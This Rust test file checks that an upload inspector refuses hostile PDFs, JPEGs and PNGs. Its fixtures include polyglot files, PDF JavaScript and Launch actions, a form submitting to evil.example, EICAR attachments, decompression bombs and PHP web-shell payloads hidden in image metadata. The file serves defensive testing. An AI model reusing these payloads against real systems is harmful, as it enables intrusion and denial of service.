//! The hostile uploads whose harm is in their content, by their number in the corpus. Each is refused, and says why; a photograph
//! with its position is the one that is cleaned.

use super::make::{self, Pdf, bomb, deflated, eicar, page_tree, plain_pdf, stream, zip};
use super::ordinary::linking_pdf;
use super::{LIMITS, inspect};
use domain::upload::MediaType::{self, Jpeg, Pdf as PdfType, Png};
use domain::upload::Reason;
use std::collections::BTreeSet;

type Case = (u8, &'static str, MediaType, Vec<u8>, Reason);

fn with_catalogue(entries: &str) -> Vec<u8> {
    Pdf::of(&page_tree(1, entries)).table()
}

fn with_object(object: impl AsRef<[u8]>) -> Vec<u8> {
    Pdf::of(&page_tree(1, "")).object(object).table()
}

fn disguised() -> Vec<Case> {
    let svg = "<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>";
    let jar = zip(0, "Main.class", b"\xca\xfe\xba\xbe");
    let commented = make::jpeg_with(0xFE, b"*/=alert(1)/*");
    let html = |at: usize| [&b"%PDF-1.7\n"[..], b"<html><script>alert(1)</script></html>\n", &plain_pdf(1)[at..]].concat();
    vec![
        (1, "html as pdf", PdfType, b"<!DOCTYPE html><html><script>alert(1)</script></html>".to_vec(), Reason::WrongKind),
        (2, "svg with a script as png", Png, svg.into(), Reason::WrongKind),
        (2, "svg with a script as jpeg", Jpeg, svg.into(), Reason::WrongKind),
        (3, "gifar", Jpeg, [&b"GIF89a\x01\0\x01\0\0\0\0;"[..], &jar].concat(), Reason::WrongKind),
        (3, "jpeg and jar", Jpeg, [make::jpeg(), jar.clone()].concat(), Reason::TrailingData),
        (3, "png and jar", Png, [make::png(), jar].concat(), Reason::TrailingData),
        (3, "jpeg and a script after it", Jpeg, [&make::jpeg()[..], b"*/=alert(1)"].concat(), Reason::TrailingData),
        (3, "jpeg that is a script", Jpeg, commented, Reason::Script),
        (4, "pdf with html before its objects", PdfType, html(9), Reason::TrailingData),
        (4, "pdf with html in a comment", PdfType, Pdf::new().raw(b"%<html><body>\n").table(), Reason::TrailingData),
        (4, "html before a pdf", PdfType, [b"<html>\n".to_vec(), plain_pdf(1)].concat(), Reason::PdfHeader),
        (4, "pdf and html after it", PdfType, [&plain_pdf(1)[..], b"<script>alert(1)</script>"].concat(), Reason::TrailingData),
        (5, "pdf and zip", PdfType, [plain_pdf(1), zip(0, "a", b"a")].concat(), Reason::TrailingData),
        (5, "zip around a pdf", PdfType, zip(0, "a.pdf", &plain_pdf(1)), Reason::PdfHeader),
        (5, "zip inside a stream of a pdf", PdfType, with_object(stream("", &zip(0, "a", b"a"))), Reason::TrailingData),
        (6, "pdf header at byte 1,000", PdfType, [vec![b' '; 1000], plain_pdf(1)].concat(), Reason::PdfHeader),
        (38, "eicar as pdf", PdfType, eicar(), Reason::WrongKind),
        (40, "zip under a password as pdf", PdfType, zip(1, "salary.exe", b"sealed"), Reason::WrongKind),
        (41, "heic as jpeg", Jpeg, b"\0\0\0\x18ftypheic\0\0\0\0mif1heic".to_vec(), Reason::WrongKind),
        (41, "tiff as jpeg", Jpeg, b"II*\0\x08\0\0\0\0\0".to_vec(), Reason::WrongKind),
        (41, "tiff as png", Png, b"MM\0*\0\0\0\x08\0\0".to_vec(), Reason::WrongKind),
        (41, "program as pdf", PdfType, b"MZ\x90\0This program cannot be run in DOS mode".to_vec(), Reason::WrongKind),
        (41, "jpeg as png", Png, make::jpeg(), Reason::WrongKind),
        (41, "png as pdf", PdfType, make::png(), Reason::WrongKind),
    ]
}

fn acting() -> Vec<Case> {
    let script = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>";
    let packed = Pdf::new().packed(&["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [] >>", "<< /S /J#61vaScript >>"]);
    let launch = "<< /S /Launch /F (cmd.exe) >>";
    let attachment = Pdf::of(&page_tree(1, "/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>"));
    let attachment = attachment.object("<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>");
    let with_virus = attachment.object(stream("/Type /EmbeddedFile", &eicar())).table();
    let hidden = stream("", b"9 0 obj << /S /Jav#61Script /JS (app.alert\\(1\\)) >> endobj");
    vec![
        (7, "script at opening", PdfType, with_catalogue(&format!("/OpenAction {script}")), Reason::Script),
        (7, "script in a name tree", PdfType, with_catalogue("/Names << /JavaScript 9 0 R >>"), Reason::Script),
        (7, "script by the short name", PdfType, with_object("<< /S /Rest /#4a#53 (1) >>"), Reason::Script),
        (7, "script in an object stream", PdfType, packed.stream(), Reason::Script),
        (7, "script inside a stream", PdfType, with_object(hidden), Reason::Script),
        (7, "script in a model", PdfType, with_object("<< /Subtype /3D /OnInstantiate 9 0 R >>"), Reason::Action),
        (7, "anything at opening", PdfType, with_catalogue("/OpenAction 9 0 R"), Reason::Action),
        (7, "anything at other times", PdfType, with_catalogue("/AA << /WC 9 0 R >>"), Reason::Action),
        (8, "launch", PdfType, with_object(launch), Reason::Action),
        (9, "program attached", PdfType, with_virus.clone(), Reason::EmbeddedFile),
        (9, "file attached to a page", PdfType, with_object("<< /Subtype /FileAttachment /FS 9 0 R >>"), Reason::EmbeddedFile),
        (10, "form that sends itself", PdfType, with_object("<< /S /SubmitForm /F (https://evil.example) >>"), Reason::Action),
        (10, "link to a file share", PdfType, with_object(r"<< /S /GoToR /F (\\\\evil\\share) >>"), Reason::ExternalReference),
        (10, "file of a file share", PdfType, with_object(r"<< /Type /XObject /F (\\\\evil\\a) >>"), Reason::ExternalReference),
        (10, "stream in another file", PdfType, with_object(stream("/F << /FS /URL >>", b"")), Reason::ExternalReference),
        (10, "link to a script", PdfType, linking_pdf("/A << /S /URI /URI (javascript:alert\\(1\\)) >>"), Reason::ExternalReference),
        (10, "link to a file", PdfType, linking_pdf("/A << /URI <66696c653a2f2f2f> >>"), Reason::ExternalReference),
        (11, "xfa", PdfType, with_catalogue("/AcroForm << /XFA 9 0 R >>"), Reason::FormXfa),
        (12, "encrypted", PdfType, Pdf::of(&page_tree(1, "")).trailer("/Encrypt 9 0 R").table(), Reason::Encrypted),
        (12, "encrypted stream", PdfType, with_object(stream("/Filter [/Crypt /FlateDecode]", b"")), Reason::Encrypted),
        (39, "virus attached", PdfType, with_virus, Reason::EmbeddedFile),
    ]
}

fn straining() -> Vec<Case> {
    let deep = |open: &str| with_object(open.repeat(100_000));
    let balanced = format!("{}{}", "[".repeat(5_000), "]".repeat(5_000));
    let loops = |chain: &str| Pdf::of(&page_tree(1, "")).trailer(chain).table();
    let start = Pdf::of(&page_tree(1, "")).length();
    let objects = stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", &bomb(100));
    let overlapping = [b"9 0 10 1 ".to_vec(), b"[[[[[[]]]]]]".to_vec()].concat();
    let rows = stream("/Type /XRef /Size 500000 /W [1 1 0] /Filter /FlateDecode", &bomb(1));
    let lengths = (0..200).map(|i| format!("<< /Length {} 0 R >>\nstream\n\nendstream", i + 5).into_bytes());
    let lengths: Vec<_> = page_tree(1, "").into_iter().chain(lengths).collect();
    let twice = ["<< /Type /Pages /Kids [3 0 R 3 0 R] >>", "<< /Type /Pages /Kids [2 0 R] >>"];
    vec![
        (13, "arrays without end", PdfType, deep("["), Reason::TooComplex),
        (13, "dictionaries without end", PdfType, deep("<</A"), Reason::TooComplex),
        (13, "parentheses without end", PdfType, deep("("), Reason::TooComplex),
        (13, "deep arrays", PdfType, with_object(&balanced), Reason::TooComplex),
        (13, "deep arrays in an object stream", PdfType, Pdf::new().packed(&["<<>>", &balanced]).stream(), Reason::TooComplex),
        (13, "more objects than a scan has", PdfType, Pdf::of(&vec![b"[0 0 0]".to_vec(); 90_000]).table(), Reason::TooComplex),
        (13, "more tokens than a scan has", PdfType, with_object(format!("[{}]", "0 ".repeat(500_000))), Reason::TooComplex),
        (13, "chain of lengths", PdfType, Pdf::of(&lengths).object("0").table(), Reason::Corrupt),
        (14, "cross-references that lead back", PdfType, loops(&format!("/Prev {start}")), Reason::Corrupt),
        (14, "cross-references to nowhere", PdfType, loops("/Prev 17"), Reason::Corrupt),
        (
            14,
            "page tree that leads back",
            PdfType,
            Pdf::new().object("<< /Type /Catalog /Pages 2 0 R >>").object(twice[1]).table(),
            Reason::Corrupt,
        ),
        (
            14,
            "page met twice",
            PdfType,
            Pdf::of(&page_tree(1, "")[..1]).object(twice[0]).object("<< /Type /Page >>").table(),
            Reason::Corrupt,
        ),
        (14, "no page", PdfType, Pdf::of(&page_tree(0, "")).table(), Reason::Corrupt),
        (15, "object-stream bomb", PdfType, with_object(objects), Reason::InflatesTooMuch),
        (15, "objects in the same bytes", PdfType, with_object(stream("/Type /ObjStm /N 2 /First 9", &overlapping)), Reason::Corrupt),
        (15, "half a million cross-references", PdfType, with_object(rows), Reason::TooComplex),
        (16, "deflate bomb", PdfType, with_object(stream("/Filter /FlateDecode", &bomb(100))), Reason::InflatesTooMuch),
        (16, "deflate bomb as a picture", PdfType, picture_bomb(), Reason::InflatesTooMuch),
        (
            16,
            "bomb in a bomb",
            PdfType,
            with_object(stream("/Filter [/FlateDecode /FlateDecode]", &deflated(&bomb(100)))),
            Reason::TooComplex,
        ),
        (16, "bomb of another packing", PdfType, with_object(stream("/Filter /LZWDecode", b"\x80\x0b")), Reason::TooComplex),
        (17, "10,000 pages", PdfType, plain_pdf(10_000), Reason::TooManyPages),
        (17, "51 pages", PdfType, plain_pdf(51), Reason::TooManyPages),
        (18, "nothing", PdfType, Vec::new(), Reason::Empty),
        (19, "one byte over the limit", PdfType, vec![b'%'; LIMITS.max_bytes + 1], Reason::TooLarge),
    ]
}

fn picture_bomb() -> Vec<u8> {
    with_object(stream("/Subtype /Image /Width 5000 /Height 5000 /Filter /FlateDecode", &bomb(200)))
}

fn pictures() -> Vec<Case> {
    let truncated = |bytes: Vec<u8>, end: usize| bytes[..bytes.len() - end].to_vec();
    let packed = |name: &[u8], text: &[u8]| [name, &deflated(text)].concat();
    let many = [b"comment\0\0".to_vec(), bomb(100)].concat();
    let exif = [&b"Exif\0\0II*\0\x08\0\0\0\0\0\0\0\0\0 "[..], b"<?php system($_GET['c']); ?>"].concat();
    vec![
        (31, "png of 50,000 x 50,000", Png, make::png_of(50_000, 50_000), Reason::TooManyPixels),
        (31, "png one pixel too long", Png, make::png_of(10_001, 1), Reason::TooManyPixels),
        (31, "png one row too many", Png, make::png_of(5_000, 5_001), Reason::TooManyPixels),
        (31, "jpeg of 65,535 x 65,535", Jpeg, make::jpeg_with_frame(0xC0, 8, 65_535, 65_535, &[0x11; 3]), Reason::TooManyPixels),
        (
            31,
            "jpeg decoded in more memory than is given",
            Jpeg,
            make::jpeg_with_frame(0xC2, 8, 5_000, 5_000, &[0x11; 3]),
            Reason::TooManyPixels,
        ),
        (32, "zTXt bomb", Png, make::png_with(*b"zTXt", &many), Reason::InflatesTooMuch),
        (32, "iTXt bomb", Png, make::png_with(*b"iTXt", &packed(b"a\0\x01\0\0\0", &[0; 9 << 20])), Reason::InflatesTooMuch),
        (32, "iCCP bomb", Png, make::png_with(*b"iCCP", &many), Reason::InflatesTooMuch),
        (32, "long text", Png, make::png_with(*b"tEXt", &[b'a'; 2 << 20]), Reason::TooComplex),
        (33, "php in exif", Jpeg, make::jpeg_with(0xE1, &exif), Reason::Script),
        (33, "php in a comment", Jpeg, make::jpeg_with(0xFE, b"<?php phpinfo();"), Reason::Script),
        (33, "template in a comment", Jpeg, make::jpeg_with(0xFE, b"<% eval request(\"c\") %>"), Reason::Script),
        (33, "program in a segment", Jpeg, make::jpeg_with(0xED, b"MZ\x90\0\x03\0"), Reason::Script),
        (33, "php in text", Png, make::png_with(*b"tEXt", b"Comment\0<?php phpinfo();"), Reason::Script),
        (33, "php in packed text", Png, make::png_with(*b"zTXt", &packed(b"Comment\0\0", b"<?php phpinfo();")), Reason::Script),
        (35, "jpeg without its end", Jpeg, truncated(make::jpeg(), 2), Reason::Truncated),
        (35, "half a jpeg", Jpeg, truncated(make::jpeg(), 400), Reason::Truncated),
        (35, "png without its end", Png, truncated(make::png(), 12), Reason::Truncated),
        (35, "pdf without its end", PdfType, truncated(plain_pdf(1), 30), Reason::Truncated),
        (36, "animated png", Png, make::png_with(*b"acTL", &[0, 0, 0, 2, 0, 0, 0, 0]), Reason::Animated),
        (37, "jpeg in four inks", Jpeg, make::jpeg_with_frame(0xC0, 8, 32, 48, &[0x11; 4]), Reason::UnsupportedColours),
        (37, "jpeg of 12 bits", Jpeg, make::jpeg_with_frame(0xC1, 12, 32, 48, &[0x11; 3]), Reason::UnsupportedColours),
        (37, "png of 16 bits", Png, make::rgb16_png(), Reason::UnsupportedColours),
    ]
}

fn corpus() -> Vec<Case> {
    [disguised(), acting(), straining(), pictures()].concat()
}

#[test]
fn every_hostile_file_is_refused_and_says_why() {
    for (number, name, declared, bytes, reason) in corpus() {
        assert_eq!(inspect(&bytes, declared).map(|cleaned| cleaned.bytes.len()), Err(reason), "{number} {name}");
    }
}

#[test]
fn no_case_about_content_is_missing() {
    let told: BTreeSet<u8> = corpus().iter().map(|(number, ..)| *number).collect();
    // 34 is the photograph with its position, which is cleaned.
    let about_content: BTreeSet<u8> = (1..=19).chain(31..=41).filter(|number| *number != 34).collect();
    assert_eq!(told, about_content);
}

#[test]
fn damage_is_told_from_intent() {
    let shifted = make::replaced(&plain_pdf(1), b"1 0 obj", b" 1 0 obj");
    assert_eq!(inspect(&shifted, PdfType), Err(Reason::Corrupt));
    let long = make::replaced(&plain_pdf(1), b"/Length ", b"/Length 9");
    assert_eq!(inspect(&long, PdfType), Err(Reason::Truncated));
    assert_eq!(inspect(&make::replaced(&make::png(), b"IDAT", b"IDOT"), Png), Err(Reason::Corrupt));
    assert_eq!(inspect(&make::png_with(*b"PLTE", b"odd!"), Png), Err(Reason::Corrupt));
}
